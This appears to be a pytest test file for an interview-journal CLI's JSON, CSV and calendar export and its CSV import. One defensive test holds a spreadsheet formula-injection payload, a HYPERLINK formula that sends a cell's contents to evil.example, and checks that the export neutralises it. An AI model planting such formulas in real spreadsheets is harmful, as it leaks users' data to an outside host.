"""`followup export json|csv|ics` and `followup import csv`: data in and out, nothing lost."""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import json
import os
import tempfile
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import TODAY, Run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journal import Interview, SaveError, load, store
from journal.agenda import agenda
from journal.exports import CSV_COLUMNS
from journal.imports import parse_day_loosely
from journal.words import counted


def test_export_json_holds_records_people_and_the_agenda(run: Run, demo: Path) -> None:
    result = run("-C", demo, "export", "json", "--as-of", "2026-11-25")
    assert result.code == 0
    data = json.loads(result.out)
    journal = load(demo)
    assert data["as_of"] == "2026-11-25"
    assert {item["id"] for item in data["interviews"]} == set(journal.interviews)
    assert {item["id"] for item in data["followups"]} == set(journal.followups)
    assert {item["id"] for item in data["people"]} == set(journal.people)
    assert [item["id"] for item in data["agenda"]] == [
        item.id for item in agenda(journal, journal.settings.policy, TODAY)
    ]
    onsite = next(
        item for item in data["interviews"] if item["id"].endswith("northwind-analytics-senior-data-engineer-onsite")
    )
    assert onsite["date"] == "2026-11-21T13:00" and onsite["decision_by"] == "2026-11-30"
    assert onsite["interviewers"][1]["linkedin"] == "https://www.linkedin.com/in/danielokafor"
    assert "## Talking points" in onsite["body"]
    maya = next(item for item in data["people"] if item["id"] == "maya-johnson")
    assert maya["keep_in_touch"] == 60 and maya["relationship"] == "recruiter"


def test_export_csv_has_one_row_per_interview(run: Run, demo: Path) -> None:
    result = run("-C", demo, "export", "csv")
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert result.code == 0 and len(rows) == len(load(demo).interviews)
    assert list(rows[0]) == list(CSV_COLUMNS)
    lumen = next(row for row in rows if row["company"] == "Lumen Labs")
    assert lumen["interviewers"] == (
        "Grace Kim (Hiring Manager) <grace.kim@lumenlabs.example>; Omar Haddad (Senior SRE) <omar.haddad@lumenlabs.example>"
    )
    assert lumen["tags"] == "kubernetes, remote" and lumen["date"] == "2026-11-09T14:00"


def test_export_ics_parses_and_uids_are_stable(run: Run, demo: Path, tmp_path: Path) -> None:
    from icalendar import Calendar

    first = run("-C", demo, "export", "ics", "--as-of", "2026-11-25", "--out", tmp_path / "a.ics")
    assert first.code == 0 and first.out == "" and "wrote" in first.err
    # A day later, after logging a thank-you: the same events keep their UIDs.
    run("-C", demo, "new", "followup", "--interview", "2026-11-24-bluefin-health-product-engineer-technical",
        "--kind", "thank-you", "--to", "Aisha Rahman", "--date", "2026-11-25T08:00")  # fmt: skip
    run("-C", demo, "export", "ics", "--as-of", "2026-11-26", "--out", tmp_path / "b.ics")
    before = Calendar.from_ical((tmp_path / "a.ics").read_bytes())
    after = Calendar.from_ical((tmp_path / "b.ics").read_bytes())
    uids_before = [str(event["uid"]) for event in before.walk("VEVENT")]
    uids_after = [str(event["uid"]) for event in after.walk("VEVENT")]
    journal = load(demo)
    items = [item for item in agenda(journal, journal.settings.policy, TODAY) if item.action != "ask-next-steps"]
    assert len(uids_before) == len(set(uids_before)) == len(items) + 1 + len(journal.interviews)
    assert set(uids_before) - set(uids_after) == {
        "agenda-thank-you:2026-11-24-bluefin-health-product-engineer-technical:aisha-rahman@followup-journal"
    }
    interview = next(event for event in before.walk("VEVENT") if str(event["uid"]).startswith("interview-2026-11-21"))
    assert str(interview["summary"]).startswith("Interview: Northwind Analytics")
    assert interview.decoded("dtstart").isoformat() == "2026-11-21T13:00:00"
    again = run("-C", demo, "export", "ics", "--as-of", "2026-11-26")
    assert again.out.encode() == (tmp_path / "b.ics").read_bytes()  # same day, same bytes


def test_export_ics_is_the_sites_calendar_with_its_reminders_titles_and_zone(run: Run, demo: Path) -> None:
    """One function builds both: `export ics` and the site's calendar.ics differ only in their PRODID."""
    from icalendar import Calendar

    from journal.ical import PRODID, build_calendar

    config = demo / "journal.yaml"
    config.write_text(config.read_text() + "timezone: Europe/Berlin\n")
    exported = run("-C", demo, "export", "ics", "--as-of", "2026-11-25").out.encode()
    journal = load(demo)
    site, _ = build_calendar(journal, agenda(journal, journal.settings.policy, TODAY), TODAY)
    assert exported.replace(b"-//Follow-up Journal//followup//EN", PRODID.encode()) == site
    calendar = Calendar.from_ical(exported)
    overdue = [e for e in calendar.walk("VEVENT") if str(e["summary"]).startswith("Overdue: ")]
    assert overdue and all(e.walk("VALARM") for e in overdue)
    assert [str(tz["tzid"]) for tz in calendar.walk("VTIMEZONE")] == ["Europe/Berlin"]


def test_export_unknown_format_and_bad_out_are_exit_2(run: Run, demo: Path, tmp_path: Path) -> None:
    assert run("-C", demo, "export", "yaml").code == 2
    result = run("-C", demo, "export", "csv", "--out", tmp_path / "missing" / "x.csv")
    assert result.code == 2 and "does not exist" in result.err


SHEET = """\
Company,Job Title,Date Applied,Status,Interviewer(s),Notes,Salary
Acme Corp,Backend Engineer,2026-11-02,Phone screen,"Jane Doe <jane@acme.example>; Raj Patel",Nice call,100k
Beta Labs,QA Engineer,11/31/2026,Applied,,,
Gamma,SRE,20.11.2026,Rejected,"Elena Petrova (Manager, Data) <e@gamma.example>","Two lines
of notes",
,Product Manager,2026-11-03,Applied,,,
Delta,Data Engineer,2026-11-10,Onsite,Ann Lee,,
Acme Corp,Backend Engineer,2026-11-02,Phone screen,,duplicate row,
"""


def test_import_creates_good_rows_reports_bad_ones_and_skips_known(run: Run, empty: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "applications.csv"
    sheet.write_text(SHEET, encoding="utf-8-sig")
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 1  # some rows were bad; the good ones are in
    assert "applications.csv:3: error: Date Applied: cannot read the date '11/31/2026'" in result.err
    assert "applications.csv:6: error: Company: missing" in result.err  # line 6: the notes of line 4 span two lines
    assert result.err.count("; row skipped") == 2
    assert "ignored column: Salary" in result.err
    assert "applications.csv:8: skipped" in result.out
    assert "imported 3 interviews; 1 already in the journal; 2 bad rows" in result.out
    journal = load(empty)
    assert not journal.problems
    by_company = {interview.company: interview for interview in journal.interviews.values()}
    assert set(by_company) == {"Acme Corp", "Gamma", "Delta"}
    assert [p.name for p in by_company["Acme Corp"].interviewers] == ["Jane Doe", "Raj Patel"]
    gamma = by_company["Gamma"]
    assert (gamma.outcome, gamma.day.isoformat(), gamma.body) == ("rejected", "2026-11-20", "Two lines\nof notes\n")
    assert gamma.interviewers[0].title == "Manager, Data"
    assert by_company["Delta"].stage == "onsite" and by_company["Acme Corp"].stage == "phone-screen"
    again = run("-C", empty, "import", "csv", sheet)
    assert "imported 0 interviews; 4 already in the journal" in again.out
    assert len(load(empty).interviews) == 3


def test_export_then_import_round_trips_every_interview(run: Run, demo: Path, empty: Path, tmp_path: Path) -> None:
    exported = tmp_path / "interviews.csv"
    assert run("-C", demo, "export", "csv", "--out", exported).code == 0
    result = run("-C", empty, "import", "csv", exported)
    assert result.code == 0, result.err
    assert "imported 12 interviews; 0 already in the journal; 0 bad rows" in result.out
    assert run("-C", empty, "export", "csv").out == exported.read_text()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("Name,Salary\nAcme,1\n", "no company column"),
        ("Company,Title\nAcme,Dev\n", "no date column"),
    ],
)
def test_import_unusable_file_is_exit_2(run: Run, empty: Path, tmp_path: Path, text: str, message: str) -> None:
    sheet = tmp_path / "x.csv"
    sheet.write_text(text)
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 2 and message in result.err


def test_import_rejects_non_utf8_with_the_line(run: Run, empty: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "latin1.csv"
    sheet.write_bytes(b"Company,Role,Date\nCaf\xe9 Corp,Dev,2026-11-02\n")
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 2 and "latin1.csv:2: not UTF-8" in result.err
    assert run("-C", empty, "import", "csv", tmp_path / "nope.csv").code == 2


@pytest.mark.parametrize(
    ("text", "iso"),
    [("2026-11-20", "2026-11-20"), ("2026/11/20", "2026-11-20"), ("20.11.2026", "2026-11-20"),
     ("Nov 20, 2026", "2026-11-20"), ("11/20/2026", "2026-11-20"), ("20/11/2026", "2026-11-20"), ("5/5/2026", "2026-05-05")],
)  # fmt: skip
def test_spreadsheet_dates(text: str, iso: str) -> None:
    assert parse_day_loosely(text).isoformat() == iso


def test_ambiguous_spreadsheet_date_is_refused() -> None:
    with pytest.raises(ValueError, match="day/month or month/day"):
        parse_day_loosely("03/04/2026")


def test_ics_times_keep_their_instant(run: Run, empty: Path) -> None:
    from icalendar import Calendar

    config = empty / "journal.yaml"
    config.write_text(config.read_text() + "timezone: Europe/Berlin\n")
    run("-C", empty, "new", "interview", "--company", "A", "--role", "Offset", "--date", "2026-11-20T14:00+01:00")
    run("-C", empty, "new", "interview", "--company", "A", "--role", "Local", "--date", "2026-11-20T14:00")
    result = run("-C", empty, "export", "ics", "--as-of", "2026-11-25")
    calendar = Calendar.from_ical(result.out.encode())
    starts = {
        str(e["summary"]): e.decoded("dtstart") for e in calendar.walk("VEVENT") if "Interview" in str(e["summary"])
    }
    # The same instant, written in the journal's zone (as the site's calendar.ics writes it).
    assert starts["Interview: A — Offset"].isoformat() == "2026-11-20T14:00:00+01:00"
    assert starts["Interview: A — Offset"].utcoffset() == timedelta(hours=1)
    assert starts["Interview: A — Local"].isoformat() == "2026-11-20T14:00:00+01:00"
    assert [str(tz["tzid"]) for tz in calendar.walk("VTIMEZONE")] == ["Europe/Berlin"]


def test_an_interest_that_is_not_an_ascii_digit_from_1_to_5_is_a_bad_row(run: Run, empty: Path, tmp_path: Path) -> None:
    """`int()` takes '٣' and '1_0', and '²' passes `str.isdigit()` yet makes `int()` raise: one such
    cell once stopped the whole import with "invalid literal for int()"."""
    sheet = tmp_path / "interest.csv"
    sheet.write_text(
        "Company,Role,Date,Interest\nAcme,Eng,2026-11-20,\u00b2\nBeta,Eng,2026-11-20,\u0663\n"
        "Gamma,Eng,2026-11-20,0\nDelta,Eng,2026-11-20," + "9" * 5000 + "\nEpsilon,Eng,2026-11-20,4\n",
        encoding="utf-8",
    )
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 1
    for line in (2, 3, 4, 5):
        assert f"interest.csv:{line}: error: Interest: " in result.err
    assert "imported 1 interview; 0 already in the journal; 4 bad rows" in result.out
    assert [iv.interest for iv in load(empty).interviews.values()] == [4]


def test_export_csv_never_hands_a_spreadsheet_a_formula_and_import_takes_the_prefix_off(
    run: Run, empty: Path, tmp_path: Path
) -> None:
    hostile = Interview(
        id="",
        company='=HYPERLINK("http://evil.example/?"&A1,"click")',
        role="+SUM(1+1)",
        date=date(2026, 11, 20),
        location="@here",
        next_steps="-2+3 (they said)",
        body="- asked about on-call\n",
    )
    genuine = Interview(id="", company="'Tis Coffee", role="\tBarista", date=date(2026, 11, 21))
    for record in (hostile, genuine):
        store.create(empty, dataclasses.replace(record, id=store.interview_id(empty, record)))
    exported = tmp_path / "out.csv"
    assert run("-C", empty, "export", "csv", "--out", exported).code == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text())))
    for row in rows:
        for column in ("company", "role", "location", "next_steps", "notes"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert rows[0]["company"].startswith("'=HYPERLINK") and rows[1]["company"] == "''Tis Coffee"
    other = tmp_path / "other"
    other.mkdir()
    run("init", other)
    result = run("-C", other, "import", "csv", exported)
    assert result.code == 0, result.err
    back = {interview.role: interview for interview in load(other).interviews.values()}
    assert back["+SUM(1+1)"].company == hostile.company and back["+SUM(1+1)"].location == "@here"
    assert back["+SUM(1+1)"].next_steps == "-2+3 (they said)" and back["+SUM(1+1)"].body == hostile.body
    assert back["\tBarista"].company == "'Tis Coffee"
    assert run("-C", other, "export", "csv").out == exported.read_text()


CONTACTS = """\
Company,Role,Date,Stage,interest,Notes
Acme,Dev,2026-11-02,onsite,3,"Three
lines of
notes"
Beta,QA,2026-11-03,,²,
Gamma,SRE,2026-13-40,,,
Delta,Ops,2026-11-05,tea break,,
Epsilon,PM,2026-11-06,,,"{big}"
Zeta,Data,2026-11-07,final,5,"two
lines"
"""


def test_each_bad_cell_is_a_row_problem_at_its_line_and_column_and_the_rest_is_imported(
    run: Run, empty: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "contacts.csv"
    sheet.write_text(CONTACTS.format(big="x" * 200_000))
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 1
    errors = result.err.splitlines()
    assert "contacts.csv:5: error: interest: '²' is not a whole number from 1 to 5; row skipped" in errors
    assert any(line.startswith("contacts.csv:6: error: Date: cannot read the date '2026-13-40'") for line in errors)
    assert any(line.startswith("contacts.csv:7: error: Stage: unknown stage 'tea break'") for line in errors)
    assert any(line.startswith("contacts.csv:8: error: Notes: the cell holds 200,000 characters") for line in errors)
    assert "imported 2 interviews; 0 already in the journal; 4 bad rows" in result.out
    journal = load(empty)
    assert journal.problems == [] and {iv.company for iv in journal.interviews.values()} == {"Acme", "Zeta"}


def _rows(count: int) -> str:
    lines = ["Company,Role,Date,Notes"]
    lines += [
        f"Company {number},Role {number % 7},2026-{number % 12 + 1:02d}-0{number % 9 + 1},n" for number in range(count)
    ]
    return "\n".join(lines) + "\n"


def test_a_full_disk_midway_stops_the_import_naming_what_was_created(
    run: Run, empty: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = tmp_path / "many.csv"
    sheet.write_text(_rows(6))
    real_write, records = os.write, []

    def disk_fills_up(fd: int, data: Any) -> int:
        if bytes(data[:4]) == b"---\n":  # a record file (not the load cache)
            records.append(fd)
            if len(records) > 3:
                real_write(fd, bytes(data[: len(data) // 2]))
                raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", disk_fills_up)
    result = run("-C", empty, "import", "csv", sheet)
    monkeypatch.setattr(os, "write", real_write)
    assert result.code == 1
    created = sorted(name for name in os.listdir(empty / "interviews"))
    assert len(created) == 3 and all(not name.startswith(".") and name.endswith(".md") for name in created)
    assert "many.csv:5: error: No space left on device while saving interviews/" in result.err
    assert "import stopped at line 5: 3 interviews created (" in result.err
    for line, name in zip((2, 3, 4), created, strict=True):
        assert name in result.err and f"many.csv:{line}: created " in result.out and name in result.out
    assert "3 rows of many.csv not imported" in result.err and "run the same import again" in result.err
    assert "imported 3 interviews" in result.out
    assert load(empty).problems == []
    again = run("-C", empty, "import", "csv", sheet)
    assert again.code == 0 and "imported 3 interviews; 3 already in the journal" in again.out
    assert len(load(empty).interviews) == 6


def test_a_large_import_lists_the_folder_once_and_gives_every_row_its_own_file(
    run: Run, empty: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [f"{company},Dev,2026-11-02" for company in ("A.B", "A B", "a/b", "A-B!")]  # one slug, four processes
    sheet = tmp_path / "big.csv"
    sheet.write_text(_rows(300) + "\n".join(rows) + "\n")
    listings: list[str] = []
    real_listdir, real_scandir = os.listdir, os.scandir

    def listdir(path: Any = ".") -> list[str]:
        listings.append(str(path))
        return real_listdir(path)

    def scandir(path: Any = ".") -> Any:
        listings.append(str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "listdir", listdir)
    monkeypatch.setattr(os, "scandir", scandir)
    result = run("-C", empty, "import", "csv", sheet)
    monkeypatch.undo()
    assert result.code == 0, result.err
    assert sum(path.endswith("interviews") for path in listings) <= 3  # not once per row
    journal = load(empty)
    assert len(journal.interviews) == 304 and journal.problems == []
    assert sorted(i for i in journal.interviews if i.startswith("2026-11-02-a-b-dev")) == [
        "2026-11-02-a-b-dev", "2026-11-02-a-b-dev-2", "2026-11-02-a-b-dev-3", "2026-11-02-a-b-dev-4",
    ]  # fmt: skip


HOSTILE = st.one_of(
    st.text(max_size=30),
    st.builds(
        lambda lead, rest: lead + rest, st.sampled_from(["'", "=", "-", "@", " ", "\t", '"']), st.text(max_size=30)
    ),
    st.sampled_from(["²", "0", "6", "2026-02-30", "0226-11-20", "11/31/2026", "03/04/2026", "Rejected", "tea", "\0"]),
)
GOOD_CELLS = {
    "Company": ["Acme", "Beta Labs"], "Role": ["Dev", "QA"], "Date": ["2026-11-02", "20.11.2026"],
    "Stage": ["", "onsite"], "Status": ["", "Rejected"], "Format": ["", "video"], "Location": ["", "Berlin"],
    "Interviewers": ["", "Jane Doe <jane@acme.example>; Raj Patel"], "Interest": ["", "3"], "Tags": ["", "a, b"],
    "Notes": ["", "Two lines\nof notes"],
}  # fmt: skip
COLUMNS = list(GOOD_CELLS)
ROW = st.tuples(*(st.one_of(st.sampled_from(good), st.sampled_from(good), HOSTILE) for good in GOOD_CELLS.values()))
"""A row whose cells are mostly good, so that a hostile cell is often the only one wrong."""


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(ROW, min_size=1, max_size=4))
def test_whatever_the_cells_the_import_reports_them_and_every_file_it_writes_loads(
    run: Run, tmp_path: Path, rows: list[tuple[str, ...]]
) -> None:
    root = Path(tempfile.mkdtemp(dir=tmp_path))
    for sub in ("interviews", "followups", "people"):
        (root / sub).mkdir()
    (root / "journal.yaml").write_text("owner: Alex Example\n")
    sheet = root.parent / f"{root.name}.csv"
    with sheet.open("w", newline="") as out:
        csv.writer(out).writerows([COLUMNS, *rows])  # CRLF, as Excel writes (and a lone CR quoted)
    result = run("-C", root, "import", "csv", sheet)  # the runner fails on any traceback
    assert result.code in (0, 1), result.err
    created = result.out.count(": created ")
    bad = [line for line in result.err.splitlines() if line.endswith("; row skipped")]
    assert all(line.startswith(f"{sheet.name}:") for line in bad)
    assert f"imported {counted(created, 'interview')}" in result.out
    journal = load(root, use_cache=False)
    assert journal.problems == [] and len(journal.interviews) == created == len(os.listdir(root / "interviews"))


def test_ctrl_c_midway_says_what_was_created(
    run: Run, empty: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = tmp_path / "many.csv"
    sheet.write_text(_rows(5))
    real_create, calls = store.create, []

    def interrupted(root: Path, record: Any, **options: Any) -> Any:
        calls.append(record)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real_create(root, record, **options)

    monkeypatch.setattr(store, "create", interrupted)
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 130
    assert "import interrupted: 2 interviews created" in result.err and "3 rows of many.csv not imported" in result.err
    assert len(os.listdir(empty / "interviews")) == 2


def test_a_row_that_cannot_be_written_is_skipped_and_a_file_made_meanwhile_is_not_overwritten(
    run: Run, empty: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = tmp_path / "three.csv"
    sheet.write_text(_rows(3))
    real_create, tried = store.create, []

    def meddling(root: Path, record: Any, **options: Any) -> Any:
        tried.append(record.id)
        if len(tried) == 1:  # another process takes this id just before us
            (root / "interviews" / f"{record.id}.md").write_text("someone else's\n")
        if record.company == "Company 1":
            raise SaveError(f"cannot write interviews/{record.id}.md: role would not read back as entered")
        return real_create(root, record, **options)

    monkeypatch.setattr(store, "create", meddling)
    result = run("-C", empty, "import", "csv", sheet)
    assert result.code == 1
    assert "three.csv:3: error: cannot write interviews/" in result.err and "row skipped" in result.err
    assert "imported 2 interviews; 0 already in the journal; 1 bad row" in result.out
    names = sorted(os.listdir(empty / "interviews"))
    assert names == [
        "2026-01-01-company-0-role-0-2.md",
        "2026-01-01-company-0-role-0.md",
        "2026-03-03-company-2-role-2.md",
    ]
    assert (empty / "interviews" / "2026-01-01-company-0-role-0.md").read_text() == "someone else's\n"
